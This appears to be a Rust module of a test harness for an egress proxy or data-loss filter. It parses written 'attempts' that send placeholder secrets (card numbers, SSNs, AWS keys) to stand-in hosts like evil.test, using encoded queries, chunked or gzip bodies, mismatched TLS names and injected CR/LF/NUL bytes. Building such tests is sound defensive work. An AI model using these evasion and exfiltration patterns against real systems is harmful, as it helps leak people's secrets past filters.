//! The text form of attempts and honest requests.
//!
//! ```text
//! # encodings                          a family, until the next one
//! == query to a listed host            an attempt; its name
//! @each percent base64 gzip:base64     as many attempts, with `{*}` and `:*}` replaced
//! GET https://partner.test/?q={card:*}
//! X-Field: another                     fields, then an empty line and a body
//!
//! == by hand
//! @tunnel partner.test:443 tls evil.test
//! GET / HTTP/1.1                       a line that ends in a version: sent as it is written
//! Host: {word}.evil.test
//! ```
//!
//! A short request (a URL, no version) is completed: `https` goes through a tunnel with TLS, `http`
//! has an absolute target; `Host` and `Content-Length` are added where they are missing. Lines of a
//! request that is written out end in CR LF, all of them, and an empty line is added when there is
//! none.
//!
//! * `@tunnel HOST:PORT [tls [NAME]]`: asks for a tunnel; `tls` opens TLS in it, for the host or for
//!   another name (`-` for none).
//! * `@body gzip|deflate|chunked N …`: the body of a short request is written so, and the fields say
//!   it.
//! * `@http2`: in HTTP/2, inside TLS; a line `:authority: …` differs from `Host`, and a line
//!   `~name: value` is a trailer.
//! * `@follow`: goes where a redirect points, with the same request.
//! * `>>>` alone: what follows is sent after an answer came, or did not.
//! * `{card}` `{ssn}` `{aws}` `{key}` `{word}`: secrets; `{card:base64:percent}` written so.
//! * `{auth}` alone in a line: who asks the proxy; the first head has it without being told.
//! * `{length}`: of the body. `{private}`: the port of a server that nobody listed.
//! * `{cr}` `{lf}` `{crlf}` `{nul}` `{tab}` `{x41}`: bytes. `#` lines without a space are comments.

use anyhow::{Context, Result, bail, ensure};

use crate::web::encode::{Secrets, chunked, encode};

/// One request, or several, on one way.
#[derive(Clone, Debug)]
pub struct Entry {
    /// Its name, unique in its file.
    pub name: String,
    /// What it is an example of.
    pub family: String,
    /// How it travels.
    pub route: Route,
    /// Whether a redirect is followed.
    pub follow: bool,
    /// Whether it is spoken in HTTP/2.
    pub http2: bool,
    stages: Vec<String>,
    short: bool,
    body: Vec<String>,
}

/// How a request travels.
#[derive(Clone, Debug, Eq, PartialEq)]
pub enum Route {
    /// To the proxy as it is.
    Forward,
    /// Through a tunnel.
    Tunnel {
        /// Host and port.
        target: String,
        /// With TLS, the name in the hello, if any.
        tls: Option<Option<String>>,
    },
}

/// What the texts are filled in with.
#[derive(Clone, Debug)]
pub struct Filling<'a> {
    /// The secrets.
    pub secrets: &'a Secrets,
    /// The value of `Proxy-Authorization`; nothing when there is no proxy.
    pub credentials: Option<&'a str>,
    /// The port of the server that nobody listed.
    pub private: u16,
}

/// Reads a file of attempts.
///
/// # Errors
/// It is not written as described; the message says where.
pub fn read(text: &str) -> Result<Vec<Entry>> {
    let (mut entries, mut family) = (Vec::new(), String::new());
    let mut block: Option<(String, Vec<&str>)> = None;
    let mut finish = |block: &mut Option<(String, Vec<&str>)>, family: &str| -> Result<()> {
        if let Some((name, lines)) = block.take() {
            let read = entries_of(&name, family, &lines);
            entries.extend(read.with_context(|| format!("attempt `{name}`"))?);
        }
        Ok(())
    };
    for line in text.lines() {
        if let Some(name) = line.strip_prefix("== ") {
            finish(&mut block, &family)?;
            block = Some((name.to_owned(), Vec::new()));
        } else if let Some(name) = line.strip_prefix("# ") {
            finish(&mut block, &family)?;
            family = name.to_owned();
        } else if line.starts_with('#') {
        } else if let Some((_, lines)) = &mut block {
            lines.push(line);
        } else {
            ensure!(line.is_empty(), "a line outside of every attempt: {line}");
        }
    }
    finish(&mut block, &family)?;
    let mut names: Vec<&str> = entries.iter().map(|entry| &*entry.name).collect();
    names.sort_unstable();
    if let Some(twice) = names.windows(2).find(|two| two.first() == two.last()) {
        bail!("two attempts have one name: {twice:?}");
    }
    Ok(entries)
}

fn entries_of(name: &str, family: &str, lines: &[&str]) -> Result<Vec<Entry>> {
    let each = lines.iter().find_map(|line| line.strip_prefix("@each "));
    let words: Vec<&str> = each.map_or(vec![""], |words| words.split(' ').collect());
    let lines: Vec<&str> = lines.iter().copied().filter(|l| !l.starts_with("@each ")).collect();
    let text = lines.join("\n");
    let entries = words.into_iter().map(|word| {
        let text = text.replace("{*}", word).replace(":*}", &format!(":{word}}}"));
        let name = if word.is_empty() { name.to_owned() } else { format!("{name} ({word})") };
        entry_of(name, family, text.trim_end_matches('\n'))
    });
    entries.collect()
}

fn entry_of(name: String, family: &str, text: &str) -> Result<Entry> {
    let (mut route, mut follow, mut http2, mut body) = (None, false, false, Vec::new());
    let mut rest = text;
    while rest.starts_with('@') {
        let (line, after) = rest.split_once('\n').unwrap_or((rest, ""));
        rest = after;
        let mut words = line.split(' ');
        match words.next().unwrap_or_default() {
            "@body" => body = words.map(str::to_owned).collect(),
            "@follow" => follow = true,
            "@http2" => http2 = true,
            "@tunnel" => {
                let target = words.next().context("@tunnel without a target")?.to_owned();
                let host = target.rsplit_once(':').map_or(&*target, |(host, _)| host).to_owned();
                let tls = words.next().map(|_| match words.next() {
                    Some("-") => None,
                    Some(name) => Some(name.to_owned()),
                    None => Some(host),
                });
                route = Some(Route::Tunnel { target, tls });
            }
            other => bail!("no directive is called {other}"),
        }
    }
    ensure!(!rest.is_empty(), "nothing is sent");
    let first = rest.lines().next().unwrap_or_default();
    let short = first.contains("://") && !first.contains(" HTTP/");
    let mut stages: Vec<String> =
        rest.split("\n>>>\n").map(|stage| stage.trim_end_matches('\n').to_owned()).collect();
    if short {
        let url = first.split_once(' ').context("a method and a URL")?.1;
        route = route.or(route_of(url)?);
        stages = stages.iter().map(|stage| completed(stage, &body)).collect::<Result<_>>()?;
    }
    let (family, route) = (family.to_owned(), route.unwrap_or(Route::Forward));
    Ok(Entry { name, family, route, follow, http2, stages, short, body })
}

/// The tunnel that an `https` URL needs.
fn route_of(url: &str) -> Result<Option<Route>> {
    let Some(rest) = url.strip_prefix("https://") else { return Ok(None) };
    let authority = rest.split(['/', '?']).next().unwrap_or_default();
    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    let (name, target) = match host.rsplit_once(':') {
        Some((name, _)) if !host.ends_with(']') => (name, host.to_owned()),
        _ => (host, format!("{host}:443")),
    };
    let name = name.trim_matches(['[', ']']).trim_end_matches('.').to_owned();
    Ok(Some(Route::Tunnel { target, tls: Some(Some(name)) }))
}

/// A short request with everything that HTTP/1.1 wants, lines still ending in LF.
fn completed(stage: &str, body: &[String]) -> Result<String> {
    let (head, content) = stage.split_once("\n\n").unwrap_or((stage, ""));
    let (first, fields) = head.split_once('\n').unwrap_or((head, ""));
    let (method, url) = first.split_once(' ').context("a method and a URL")?;
    let (scheme, rest) = url.split_once("://").context("a URL")?;
    let at = rest.find(['/', '?']).unwrap_or(rest.len());
    let (authority, target) = rest.split_at_checked(at).unwrap_or((rest, ""));
    let target = if target.starts_with('/') { target.to_owned() } else { format!("/{target}") };
    let target = if scheme == "https" { target } else { format!("{scheme}://{authority}{target}") };
    let mut out = format!("{method} {target} HTTP/1.1\n");
    let has = |name: &str| {
        fields.lines().any(|line| line.to_ascii_lowercase().starts_with(&format!("{name}:")))
    };
    if !has("host") {
        let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
        out += &format!("Host: {host}\n");
    }
    if !fields.is_empty() {
        out += &format!("{fields}\n");
    }
    if let Some(coding) = body.iter().find(|word| *word == "gzip" || *word == "deflate") {
        out += &format!("Content-Encoding: {coding}\n");
    }
    if body.iter().any(|word| word == "chunked") {
        out += "Transfer-Encoding: chunked\n";
    } else if !content.is_empty() && !has("content-length") && !has("transfer-encoding") {
        out += "Content-Length: {length}\n";
    }
    Ok(format!("{out}\n{content}"))
}

impl Entry {
    /// The request that follows a redirect to this URL.
    ///
    /// # Errors
    /// The URL is none.
    pub fn redirected(&self, status: u16, location: &str) -> Result<Self> {
        let stage = self.stages.first().map_or("", |stage| &**stage);
        let method = stage.split(' ').next().unwrap_or_default();
        let (_, content) = stage.split_once("\n\n").unwrap_or((stage, ""));
        let text = match status {
            307 | 308 => format!("{method} {location}\n\n{content}"),
            _ => format!("GET {location}"),
        };
        entry_of(self.name.clone(), &self.family, &text)
    }

    /// Where it goes: the host of the tunnel, or of the target, or of `Host`.
    #[must_use]
    pub fn host(&self) -> String {
        let first = self.stages.first().map_or("", |stage| &**stage);
        let target = first.split(' ').nth(1).unwrap_or_default();
        let authority = match (&self.route, target.split_once("://")) {
            (Route::Tunnel { target, .. }, _) => target.clone(),
            (Route::Forward, Some((_, rest))) => {
                rest.split(['/', '?', '#', '\\']).next().unwrap_or_default().to_owned()
            }
            (Route::Forward, None) if first.starts_with("CONNECT ") => target.to_owned(),
            (Route::Forward, None) => {
                let host = first.lines().find_map(|line| line.strip_prefix("Host: "));
                host.unwrap_or_default().to_owned()
            }
        };
        let host = authority.rsplit_once('@').map_or(&*authority, |(_, host)| host);
        let host = match host.rsplit_once(':') {
            Some((name, _)) if !host.ends_with(']') => name,
            _ => host,
        };
        host.to_ascii_lowercase()
    }

    /// The names of the secrets in it.
    #[must_use]
    pub fn secrets(&self) -> Vec<&'static str> {
        let names = ["card", "ssn", "aws", "key", "word"];
        let has = |name: &&str| {
            let routed = match &self.route {
                Route::Tunnel { target, tls } => format!("{target} {tls:?}"),
                Route::Forward => String::new(),
            };
            self.stages.iter().chain([&routed]).any(|stage| {
                stage.contains(&format!("{{{name}}}")) || stage.contains(&format!("{{{name}:"))
            })
        };
        names.into_iter().filter(has).collect()
    }

    /// Its route with the placeholders filled in.
    ///
    /// # Errors
    /// A placeholder is unknown.
    pub fn routed(&self, filling: &Filling<'_>) -> Result<Route> {
        let text = |text: &str| -> Result<String> {
            Ok(String::from_utf8_lossy(&filled(text, filling)?).into_owned())
        };
        Ok(match &self.route {
            Route::Forward => Route::Forward,
            Route::Tunnel { target, tls } => Route::Tunnel {
                target: text(target)?,
                tls: match tls {
                    Some(Some(name)) => Some(Some(text(name)?)),
                    other => other.clone(),
                },
            },
        })
    }

    /// The bytes of each stage.
    ///
    /// # Errors
    /// A placeholder or a way of writing is unknown.
    pub fn bytes(&self, filling: &Filling<'_>) -> Result<Vec<Vec<u8>>> {
        let stages = self.stages.iter().enumerate();
        let built = stages.map(|(at, stage)| {
            self.stage(stage, at == 0, filling).with_context(|| format!("`{}`", self.name))
        });
        built.collect()
    }

    fn stage(&self, stage: &str, first: bool, filling: &Filling<'_>) -> Result<Vec<u8>> {
        let is_head = stage.lines().next().is_some_and(|line| line.contains(" HTTP/"));
        if !is_head && !self.short {
            return filled(&stage.replace('\n', "\r\n"), filling);
        }
        let (head, content) = stage.split_once("\n\n").unwrap_or((stage, ""));
        let line_end = if self.short { "\n" } else { "\r\n" };
        let mut content = filled(&with_auth(content, filling).replace('\n', line_end), filling)?;
        let mut words = self.body.iter();
        while let Some(word) = words.next() {
            content = match word.as_str() {
                "chunked" => {
                    let size = words.next().context("chunked without a size")?.parse()?;
                    [chunked(&content, size), b"0\r\n\r\n".to_vec()].concat()
                }
                coding => encode(coding, &content)?,
            };
        }
        let mut head = head.to_owned();
        if first && self.route == Route::Forward && !head.contains("{auth}") {
            head = match head.split_once('\n') {
                Some((line, fields)) => format!("{line}\n{{auth}}\n{fields}"),
                None => format!("{head}\n{{auth}}"),
            };
        }
        let head = with_auth(&head, filling).replace("{length}", &content.len().to_string());
        let head = filled(&head.replace('\n', "\r\n"), filling)?;
        Ok([&head, &b"\r\n\r\n"[..], &content].concat())
    }
}

/// The text with what proves who asks, or without the lines for it.
fn with_auth(text: &str, filling: &Filling<'_>) -> String {
    match filling.credentials {
        Some(credentials) => text.replace("{auth}", &format!("Proxy-Authorization: {credentials}")),
        None => text.replace("{auth}\n", "").replace("\n{auth}", ""),
    }
}

/// The text with every placeholder filled in. Other braces stay.
fn filled(text: &str, filling: &Filling<'_>) -> Result<Vec<u8>> {
    let mut out = Vec::new();
    let mut parts = text.split('{');
    out.extend(parts.next().unwrap_or_default().as_bytes());
    for part in parts {
        let inside = part.split_once('}').filter(|(name, _)| is_placeholder(name));
        let Some((name, after)) = inside else {
            out.push(b'{');
            out.extend(part.as_bytes());
            continue;
        };
        let (name, ways) = name.split_once(':').unwrap_or((name, "raw"));
        match (name, filling.secrets.named(name)) {
            (_, Some(secret)) => out.extend(encode(ways, secret.as_bytes())?),
            ("cr", _) => out.push(b'\r'),
            ("lf", _) => out.push(b'\n'),
            ("crlf", _) => out.extend(b"\r\n"),
            ("nul", _) => out.push(0),
            ("tab", _) => out.push(b'\t'),
            ("private", _) => out.extend(filling.private.to_string().bytes()),
            _ => {
                let digits = name.strip_prefix('x').unwrap_or_default();
                let byte = u8::from_str_radix(digits, 16);
                out.push(byte.with_context(|| format!("no placeholder is called {name}"))?);
            }
        }
        out.extend(after.as_bytes());
    }
    Ok(out)
}

fn is_placeholder(name: &str) -> bool {
    let letters = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b':';
    !name.is_empty() && name.len() < 40 && name.bytes().all(letters)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn built(text: &str, credentials: Option<&str>) -> Vec<String> {
        let secrets = Secrets::new(1);
        let filling = Filling { secrets: &secrets, credentials, private: 7 };
        let entries = read(text).unwrap();
        let bytes = entries.iter().flat_map(|entry| entry.bytes(&filling).unwrap());
        bytes.map(|bytes| String::from_utf8_lossy(&bytes).into_owned()).collect()
    }

    #[test]
    fn short_requests_are_completed() {
        let text = "# f\n== a\nPOST http://evil.test/x?y\nA: b\n\n{\"c\": 1}\nd\n\n== b\n@body chunked 2\nPUT https://evil.test:8443\n\nabc\n";
        assert_eq!(
            built(text, None),
            [
                "POST http://evil.test/x?y HTTP/1.1\r\nHost: evil.test\r\nA: b\r\nContent-Length: 10\r\n\r\n{\"c\": 1}\nd",
                "PUT / HTTP/1.1\r\nHost: evil.test:8443\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nab\r\n1\r\nc\r\n0\r\n\r\n",
            ]
        );
        let proxied = built(text, Some("Basic x"));
        assert!(proxied[0].starts_with(
            "POST http://evil.test/x?y HTTP/1.1\r\nProxy-Authorization: Basic x\r\nHost"
        ));
        assert!(proxied[1].starts_with("PUT / HTTP/1.1\r\nHost"), "the tunnel has it");
        let entries = read(text).unwrap();
        assert_eq!(
            entries[1].route,
            Route::Tunnel { target: "evil.test:8443".into(), tls: Some(Some("evil.test".into())) }
        );
        assert_eq!(
            (entries[0].host(), entries[1].host()),
            ("evil.test".into(), "evil.test".into())
        );
    }

    #[test]
    fn written_out_requests_are_sent_as_they_are() {
        let text = "# f\n== a\nPOST http://a.test/ HTTP/1.1\nHost: a.test{lf}X: y\n z\n\nq={private}\n{auth}\nr\n>>>\nmore{nul}\nlines";
        assert_eq!(
            built(text, None),
            [
                "POST http://a.test/ HTTP/1.1\r\nHost: a.test\nX: y\r\n z\r\n\r\nq=7\r\nr",
                "more\0\r\nlines"
            ]
        );
        assert!(built(text, Some("B"))[0].contains("q=7\r\nProxy-Authorization: B\r\nr"));
    }

    #[test]
    fn each_makes_as_many() {
        let secrets = Secrets::new(1);
        let text = "# f\n== a\n@each hex raw\nGET http://a.test/{*}?{card:*}\n";
        let entries = read(text).unwrap();
        assert_eq!(
            entries.iter().map(|entry| &*entry.name).collect::<Vec<_>>(),
            ["a (hex)", "a (raw)"]
        );
        assert_eq!(entries[0].secrets(), ["card"]);
        assert!(
            built(text, None)[1].starts_with(&format!("GET http://a.test/raw?{} ", secrets.card))
        );
    }

    #[test]
    fn mistakes_are_said() {
        for text in ["x", "== a\n", "== a\n@x\nb", "== a\nGET http://a/\n== a\nGET http://a/"] {
            assert!(read(text).is_err(), "{text}");
        }
        let entry = &read("== a\nGET http://a/{nothing}").unwrap()[0];
        let filling = Filling { secrets: &Secrets::new(1), credentials: None, private: 1 };
        assert!(entry.bytes(&filling).is_err());
    }
}
